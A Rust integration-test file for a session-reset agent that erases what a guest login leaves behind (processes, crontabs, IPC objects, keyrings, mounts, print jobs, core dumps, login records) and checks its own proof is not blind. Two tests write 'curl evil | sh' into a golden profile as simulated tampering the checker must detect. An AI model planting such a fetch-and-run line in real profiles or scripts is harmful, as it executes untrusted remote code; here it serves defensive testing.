//! The proof must not be blind: it finds everything that an unprotected run leaves, nothing after a protected one, and
//! each single thing whose cleaner is left out.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use epn_agent::golden::{Kept, Store};
use epn_agent::prove::{Golden, Step, Target};
use epn_agent::reset::{self, ResetPlan};
use epn_agent::session::{Backend, PlainLogin, Program, golden};
use epn_wire::report::{ResetReport, StepOutcome};

use crate::support::{home, kinds, settings, spec, target, try_command, until_there, visitor};
use crate::traces::{self, Served, give};

#[test]
fn an_unprotected_run_shows_every_trace() {
    let uid = 61_050;
    visitor(uid);
    let line = traces::all_own() + "touch $HOME/ready; while [ ! -e $HOME/go ]; do sleep 0.01; done";
    let run = try_command(uid, &line).arg("--unprotected").spawn().unwrap();
    until_there(&home(uid).join("ready"));
    let served = Served::plant(uid);
    fs::write(home(uid).join("go"), "").unwrap();
    let output = run.wait_with_output().unwrap();
    let report: ResetReport = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1), "{report:?}");
    assert!(!report.proved);
    let found = kinds(&report);
    for kind in [
        "process",
        "crontab",
        "at-job",
        "sysv-shm",
        "sysv-sem",
        "sysv-msg",
        "posix-queue",
        "keyring",
        "mount",
        "home",
        "file",
    ] {
        assert!(found.contains(&kind), "{kind} was not found: {report:?}");
    }
    for place in traces::OPEN.iter().chain(&["/run", "/var/mail", "/var/lib", "/var/cache"]) {
        let real = fs::canonicalize(place).unwrap().display().to_string();
        assert!(
            report.leftovers.iter().any(|left| left.kind == "file" && left.place == real),
            "{place}: {report:?}"
        );
    }
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(!text.contains("trace-") && !text.contains("letter"), "names stay out of reports: {text}");
    // After the look, everything was erased.
    assert!(!served.is_mounted() && served.still_there().is_empty());
    let now = reset::run(&ResetPlan::look_only(target(uid)), Instant::now());
    assert!(now.proved, "{now:?}");
}

#[test]
fn a_protected_run_leaves_nothing() {
    let uid = 61_051;
    visitor(uid);
    let line = traces::all_own() + "touch $HOME/ready; while [ ! -e $HOME/go ]; do sleep 0.01; done";
    let run = try_command(uid, &line).spawn().unwrap();
    until_there(&home(uid).join("ready"));
    let served = Served::plant(uid);
    fs::write(home(uid).join("go"), "").unwrap();
    let output = run.wait_with_output().unwrap();
    let report: ResetReport = serde_json::from_slice(&output.stdout).unwrap();
    assert!(report.proved && report.leftovers.is_empty(), "{report:?}");
    assert_eq!(output.status.code(), Some(0));
    assert!(!served.is_mounted() && served.still_there().is_empty());
    assert!(!home(uid).exists());
}

/// Plants the traces of one step, resets without that step's cleaner, and expects its proof to fail for `kind`; then
/// resets wholly and expects a proof.
fn without_its_cleaner(uid: u32, step: Step, kind: &str, line: &str) {
    let login = PlainLogin::start(&settings(), visitor(uid), &Program::shell(line)).unwrap();
    assert!(login.wait(Duration::from_secs(20)).unwrap());
    login.log_out().unwrap();
    fails_without(&target(uid), step, kind);
}

pub fn fails_without(target: &Target, step: Step, kind: &str) {
    let plan = ResetPlan::new(target.clone());
    let report = reset::run(&plan.clone().without(step), Instant::now());
    assert!(!report.proved, "{step:?} is blind: {report:?}");
    assert_eq!(kinds(&report), [kind], "{step:?}: {report:?}");
    let named = report.steps.iter().find(|done| done.name == step.name()).unwrap();
    assert_eq!(named.outcome, StepOutcome::Left);
    let report = reset::run(&plan, Instant::now());
    assert!(report.proved, "{step:?} does not clean: {report:?}");
    let named = report.steps.iter().find(|done| done.name == step.name()).unwrap();
    assert!(named.erased > 0, "{step:?}: {report:?}");
}

#[test]
fn processes_without_their_cleaner() {
    without_its_cleaner(61_052, Step::Processes, "process", traces::DAEMON);
}

#[test]
fn a_crontab_without_its_cleaner() {
    without_its_cleaner(61_053, Step::Crontab, "crontab", traces::CRONTAB);
}

#[test]
fn an_at_job_without_its_cleaner() {
    without_its_cleaner(61_054, Step::AtJobs, "at-job", traces::AT_JOB);
}

#[test]
fn sysv_objects_without_their_cleaner() {
    let line = "perl -e 'shmget(0, 100, 0600) // die'";
    without_its_cleaner(61_055, Step::SysvIpc, "sysv-shm", line);
}

#[test]
fn a_queue_without_its_cleaner() {
    without_its_cleaner(61_056, Step::PosixQueues, "posix-queue", &traces::queue());
}

#[test]
fn a_key_without_its_cleaner() {
    without_its_cleaner(61_057, Step::Keyring, "keyring", &traces::key());
}

#[test]
fn a_home_without_its_cleaner() {
    without_its_cleaner(61_058, Step::Home, "home", traces::HOME);
}

#[test]
fn files_without_their_cleaner() {
    without_its_cleaner(61_059, Step::Files, "file", &traces::files());
}

#[test]
fn a_mount_without_its_cleaner() {
    let served = Served::plant(61_060);
    fails_without(&target(61_060), Step::Mounts, "mount");
    assert!(!served.is_mounted());
}

#[test]
fn a_print_job_without_its_cleaner() {
    let spool = tempfile::tempdir().unwrap();
    fs::write(spool.path().join("c00007"), b"\x42\0\x19job-originating-user-name\0\x0cvisitor61061\x03")
        .unwrap();
    fs::write(spool.path().join("d00007-001"), "a letter").unwrap();
    let mut target = target(61_061);
    target.places.cups_spool = spool.path().to_owned();
    fails_without(&target, Step::Printing, "print-job");
    assert_eq!(fs::read_dir(spool.path()).unwrap().count(), 0);
}

#[test]
fn a_core_dump_without_its_cleaner() {
    let dumps = tempfile::tempdir().unwrap();
    fs::write(dumps.path().join("core.libreoffice.61062.0123abcd.4711.1700000000000000.zst"), "memory")
        .unwrap();
    let mut target = target(61_062);
    target.places.core_dumps = vec![dumps.path().to_owned()];
    fails_without(&target, Step::CoreDumps, "core-dump");
}

#[test]
fn account_files_without_their_cleaner() {
    let uid = 61_063;
    let kept = tempfile::tempdir().unwrap();
    let (accounts, journals) = (kept.path().join("users"), kept.path().join("journal"));
    fs::create_dir_all(journals.join("0123abcd")).unwrap();
    fs::create_dir(&accounts).unwrap();
    give(&accounts.join("visitor"), uid);
    fs::write(journals.join("0123abcd").join(format!("user-{uid}@00.journal")), "log").unwrap();
    let mut target = target(uid);
    target.places.by_account = vec![accounts];
    target.places.journals = vec![journals];
    fails_without(&target, Step::Accounts, "account");
}

#[test]
fn a_recorded_log_in_without_its_cleaner() {
    let uid = 61_064;
    let kept = tempfile::tempdir().unwrap();
    let lastlog = kept.path().join("lastlog");
    let mut records = vec![0_u8; 292 * 61_066];
    records[292 * 61_064 + 4..292 * 61_064 + 8].copy_from_slice(b"tty8");
    records[292 * 61_065 + 4..292 * 61_065 + 8].copy_from_slice(b"tty1");
    fs::write(&lastlog, records).unwrap();
    let mut target = target(uid);
    target.places.lastlog = lastlog.clone();
    fails_without(&target, Step::Accounts, "last-log-in");
    let records = fs::read(lastlog).unwrap();
    assert_eq!(&records[292 * 61_065 + 4..292 * 61_065 + 8], b"tty1", "another's record stays");
}

#[test]
fn a_changed_golden_profile_is_found() {
    let profile = tempfile::tempdir().unwrap();
    fs::write(profile.path().join(".profile"), "umask 022").unwrap();
    let mut target = target(61_066);
    let digest = Some(golden::digest(profile.path()).unwrap());
    target.golden = Some(Golden { profile: profile.path().to_owned(), digest });
    assert!(reset::run(&ResetPlan::new(target.clone()), Instant::now()).proved);
    fs::write(profile.path().join(".profile"), "curl evil | sh").unwrap();
    let report = reset::run(&ResetPlan::new(target), Instant::now());
    assert!(!report.proved);
    assert_eq!(kinds(&report), ["golden-profile"]);
}

#[test]
fn a_golden_profile_that_was_saved_is_compared_with_that_without_any_session() {
    let dir = tempfile::tempdir().unwrap();
    let profile = Store::at(dir.path()).profile();
    fs::create_dir(&profile).unwrap();
    fs::write(profile.join(".profile"), "umask 022").unwrap();
    let (digest, entries) = golden::list(&profile, &mut |_, _| golden::Choice::Keep).unwrap();
    Kept { digest, previous: None, entries }.write(&profile).unwrap();
    let mut target = target(61_068);
    target.golden = Some(Golden { profile: profile.clone(), digest: None });
    assert!(reset::run(&ResetPlan::new(target.clone()), Instant::now()).proved);
    fs::write(profile.join(".profile"), "curl evil | sh").unwrap();
    assert_eq!(kinds(&reset::run(&ResetPlan::new(target.clone()), Instant::now())), ["golden-profile"]);
    // A digest that anybody may write proves nothing, whatever it says.
    fs::write(profile.join(".profile"), "umask 022").unwrap();
    fs::set_permissions(dir.path().join("digest.json"), fs::Permissions::from_mode(0o666)).unwrap();
    let report = reset::run(&ResetPlan::new(target), Instant::now());
    let step = report.steps.iter().find(|step| step.name == "golden-profile").unwrap();
    assert!(!report.proved && matches!(step.outcome, StepOutcome::Failed { .. }), "{report:?}");
}

#[test]
fn what_a_session_leaves_is_erased_by_an_agent_that_knows_only_the_uid() {
    let uid = 61_067;
    let backend = Backend::direct(settings()).unwrap();
    let session = backend.start(&spec(uid, &(traces::all_own() + "touch $HOME/ready; sleep 1000"))).unwrap();
    until_there(&home(uid).join("ready"));
    let before = reset::run(&ResetPlan::look_only(target(uid)), Instant::now());
    let found = kinds(&before);
    assert!(found.contains(&"process") && found.contains(&"home"), "{before:?}");
    assert!(!found.contains(&"keyring"), "a session reaches no keyring: {before:?}");
    let report = reset::run(&ResetPlan::new(target(uid)), Instant::now());
    assert!(report.proved, "{report:?}");
    assert!(session.wait(Duration::ZERO).unwrap(), "the session was killed with everything else");
}
